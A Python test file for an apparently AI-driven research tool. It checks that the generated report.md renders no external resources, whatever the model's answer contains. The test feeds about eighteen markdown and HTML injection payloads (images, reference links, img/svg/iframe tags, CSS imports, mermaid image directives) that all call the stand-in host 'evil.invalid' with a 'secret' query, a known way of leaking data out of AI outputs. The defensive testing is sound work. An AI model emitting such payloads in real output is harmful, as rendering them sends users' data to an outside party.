"""`report.md` loads nothing from outside, whatever an answer holds: a viewer would tell of it."""

from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from hanol.engines import ScriptedEngine
from hanol.research import Researcher, write_report

EVIL = "https://evil.invalid/?q=secret"
PAYLOADS = {
    "image": f"![x]({EVIL})",
    "escaped": f"\\![x]({EVIL}) \\\\![y]({EVIL})",
    "many marks": f"!![x]({EVIL})",
    "reference": f"![x][a]\n\n[a]: {EVIL}",
    "short reference": f"![a]\n\n[a]: {EVIL}",
    "image as a link": f"[![x]({EVIL})]({EVIL})",
    "split by a code": f"!\x1b[x]({EVIL}) !\x00![y]({EVIL})",
    "html": f'<img src="{EVIL}"><picture><source srcset="{EVIL}"></picture>',
    "in capitals": f"<IMG SRC='{EVIL}'/>",
    "svg": f'<svg><image href="{EVIL}"/></svg>',
    "style": f"<style>@import '{EVIL}'</style><link rel=stylesheet href='{EVIL}'>",
    "frame": f"<iframe src='{EVIL}'></iframe><object data='{EVIL}'></object>",
    "link in brackets": f"<{EVIL}/x.png>",
    "embedding": f"![[{EVIL}/x.png]] ![[../../notes]]",
    "data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "diagram": f'```mermaid\nflowchart\nA@{{ img: "{EVIL}" }}\n```',
    "diagram in a quotation": f'> ~~~ mermaid x\n> A@{{ img: "{EVIL}" }}\n> ~~~',
    "table": f"| a |\n|---|\n| ![x]({EVIL}) |",
}


@pytest.mark.parametrize("name", PAYLOADS)
def test_markdown_loads_nothing(name: str, tmp_path: Path) -> None:
    text = PAYLOADS[name]
    turn = f"<think>{text}</think><report>{text}</report><answer>{text}\n\nkept words</answer>"
    engine = ScriptedEngine([turn])
    assert list(Researcher(None, engine, tools=[], run_folder=tmp_path, mode="markov").ask(text))
    write_report(tmp_path)
    shown = (tmp_path / "report.md").read_text("utf-8")
    assert "kept words" in shown
    tokens = MarkdownIt("commonmark").enable("table").parse(shown)
    every = [*tokens, *(inner for token in tokens for inner in token.children or ())]
    assert {token.type for token in every} & {"image", "html_inline", "html_block"} == set()
    fences = {token.info for token in every if token.type == "fence"}
    assert fences <= {"", "text", "json", "python"}
    outside = "".join(token.content for token in tokens if token.type == "inline")
    assert "![" not in outside
